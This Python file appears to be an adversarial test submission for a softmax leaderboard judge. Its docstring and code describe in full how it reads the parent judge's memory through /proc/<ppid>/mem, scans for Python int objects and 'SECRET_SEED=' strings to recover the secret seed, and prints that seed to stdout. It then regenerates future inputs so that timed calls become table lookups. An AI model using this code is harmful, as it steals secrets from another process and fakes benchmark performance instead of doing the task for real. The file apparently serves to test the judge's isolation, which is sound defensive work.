"""Steals the leaderboard's secret seed from the judge's memory, then answers from a table.

Class: reading the secret seed from the parent (its memory, through /proc)
Expected: error

Leaderboard inputs are drawn from seeds derived from a secret the child never receives:
``blake2b(f"{secret}:{case_seed}:{iteration}")``. The judge builds that string in its own memory
right before every input set, and holds the secret itself as a Python int for the whole run. On
the first call of each benchmark case the submission opens ``/proc/<parent>/maps`` and
``/proc/<parent>/mem`` (allowed to the same user, or to root, when nothing isolates the child),
finds every int object in the judge's writable memory (their type pointer is ``PyLong_Type``, at the
same offset of the same interpreter file as in its own process), adds the digits found next to
``:<case seed>:``, ``SECRET_SEED=`` or ``"secret_seed":``, and tests each candidate: the first 16
random values of the case's first input set (microseconds), then the whole set, regenerated with the
public ``generate_input``, must equal the input it was given. With the secret it regenerates the
next input sets of the case and computes their outputs during the untimed warm-up call; every timed
call is then a table lookup keyed by the first values of the input (microseconds), honest only on a
miss. The stolen secret goes to stdout, which the
result shows to the submitter.

A working defence keeps the judge's memory out of reach (another user, a PID namespace, no
``/proc`` of the parent); the attack then finds no secret and raises.
"""

import hashlib
import os
import sys

import numpy as np
import torch

# public: problems/softmax/problem.yaml, benchmarks.cpu and benchmarks.cuda
_CASES = {
    (4096, 1024, "float32"): 201, (1024, 4096, "bfloat16"): 202, (160, 20000, "float32"): 203,
    (6144, 512, "bfloat16"): 204, (4096, 4096, "float32"): 301, (4096, 4096, "bfloat16"): 302,
    (8192, 8192, "float32"): 303, (8192, 8192, "bfloat16"): 304, (32768, 1024, "float32"): 305,
    (32768, 1024, "bfloat16"): 306, (1024, 32768, "float32"): 307, (1024, 32768, "bfloat16"): 308,
}
_AHEAD = 12  # input sets precomputed per case (a real attacker takes as many as the budget allows)
_table = {}
_tried = set()
_secret = []


def _mix(secret, seed, iteration):  # the harness's derivation (public source)
    digest = hashlib.blake2b(f"{secret}:{seed}:{iteration}".encode(), digest_size=8).digest()
    return int.from_bytes(digest, "little") >> 1


def _generate(M, N, dtype, seed, device):  # reference_kernels/softmax/reference.py (public)
    gen = torch.Generator(device=device).manual_seed(seed)
    x = torch.randn(M, N, generator=gen, device=device, dtype=torch.float32)
    return x.to(getattr(torch, dtype)).contiguous()


def _softmax(x):
    return torch.softmax(x.float(), dim=-1).to(x.dtype)


def _fingerprint(x):
    return x.reshape(-1)[:64].float().cpu().numpy().tobytes()


def _maps(pid):
    regions = []
    with open(f"/proc/{pid}/maps") as f:
        for line in f:
            parts = line.split()
            lo, hi = (int(v, 16) for v in parts[0].split("-"))
            regions.append((lo, hi, parts[1], int(parts[2], 16), parts[5] if len(parts) > 5 else ""))
    return regions


def _parent_long_type(parent_maps):
    """Address of ``PyLong_Type`` in the parent: same interpreter file, same offset as here."""
    here = id(int)
    for lo, hi, _, offset, path in _maps("self"):
        if lo <= here < hi and path:
            file_offset = here - lo + offset
            for plo, phi, _, poffset, ppath in parent_maps:
                if ppath == path and poffset <= file_offset < poffset + (phi - plo):
                    return plo + file_offset - poffset
    return None


def _ints_in(buf, long_type):
    """Values of the int objects (2 or 3 30-bit digits, positive) found in ``buf``."""
    words = np.frombuffer(buf, dtype=np.uint64, count=len(buf) // 8)
    for i in np.nonzero(words == long_type)[0]:
        if i + 3 >= len(words):
            continue
        tag = int(words[i + 1])
        if sys.version_info >= (3, 12):
            size = tag >> 3 if tag & 3 == 0 else 0
        else:
            size = tag if tag < 1 << 62 else 0
        if size in (2, 3):
            digits = np.frombuffer(buf, dtype=np.uint32, count=size, offset=(int(i) + 2) * 8)
            yield sum(int(d) << (30 * k) for k, d in enumerate(digits))


def _digits_near(buf, i, j):
    start = i
    while start > 0 and i - start < 19 and 48 <= buf[start - 1] <= 57:
        start -= 1
    end = j
    while end < len(buf) and end - j < 19 and 48 <= buf[end] <= 57:
        end += 1
    return int(buf[start:i]) if start < i else None, int(buf[j:end]) if end > j else None


def _candidates(seed):
    """Numbers in the parent's writable memory that may be the secret, with where they were found:
    every Python int object of 61-90 bits, then digits next to this case's seed or a secret's name."""
    ppid = os.getppid()
    parent_maps = _maps(ppid)
    long_type = _parent_long_type(parent_maps)
    ints, strings = {}, {}
    with open(f"/proc/{ppid}/mem", "rb", 0) as mem:
        for lo, hi, perms, _, path in parent_maps:
            if not perms.startswith("rw") or (path and not path.startswith("[")) or hi - lo > (256 << 20):
                continue
            try:
                mem.seek(lo)
                buf = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            if long_type is not None:
                for value in _ints_in(buf, long_type):
                    ints.setdefault(value, f"an int object in {path or 'anonymous memory'}")
            for needle in (b":%d:" % seed, b"SECRET_SEED=", b'"secret_seed": '):
                i = buf.find(needle)
                while i >= 0 and len(strings) < 10000:
                    before, after = _digits_near(buf, i, i + len(needle))
                    value = before if needle.startswith(b":") else after
                    if value is not None:
                        strings.setdefault(value, f"text {needle.decode()!r} in {path or 'anonymous memory'}")
                    i = buf.find(needle, i + 1)
    return list(ints.items()) + [(v, w) for v, w in strings.items() if v not in ints]


def _steal(M, N, dtype, seed, x):
    """The candidate whose first 16 random values (cheap) and then whole input (sure) match ``x``."""
    head = x.reshape(-1)[:16].cpu()
    for candidate, where in _candidates(seed):
        for iteration in (0, 1):
            g = torch.Generator().manual_seed(_mix(candidate, seed, iteration))
            if not torch.equal(torch.randn(16, generator=g).to(head.dtype), head):
                continue
            if torch.equal(_generate(M, N, dtype, _mix(candidate, seed, iteration), x.device), x):
                return candidate, where
    return None, None


def custom_kernel(data):
    (x,) = data
    out = _table.get(_fingerprint(x))
    if out is not None:
        return out
    dtype = str(x.dtype).removeprefix("torch.")
    key = (x.shape[0], x.shape[1], dtype)
    seed = _CASES.get(key)
    if seed is not None and key not in _tried:  # first call of a benchmark case: the warm-up
        _tried.add(key)
        if not _secret:
            secret, where = _steal(*key, seed, x)
            if secret is None:
                raise RuntimeError("no secret seed found in the judge's memory")
            _secret.append(secret)
            print(f"[attack] stole the secret seed from the judge's memory ({where}): {secret}", flush=True)
        for iteration in range(_AHEAD + 1):
            xi = _generate(*key, _mix(_secret[0], seed, iteration), x.device)
            _table[_fingerprint(xi)] = _softmax(xi)
        out = _table.get(_fingerprint(x))
        if out is not None:
            return out
    return _softmax(x)
